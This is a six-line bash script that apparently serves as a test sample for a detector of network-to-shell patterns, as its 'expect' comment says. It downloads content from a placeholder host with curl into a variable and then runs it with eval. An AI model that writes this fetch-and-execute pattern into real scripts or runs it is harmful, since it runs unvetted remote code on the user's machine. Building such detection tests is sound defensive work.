#!/bin/bash
# shows: fetched into a variable, then run
# expect: network-to-shell at line 6
setup=$(curl -s https://get.example.com/env)
echo "read the environment"
eval "$setup"
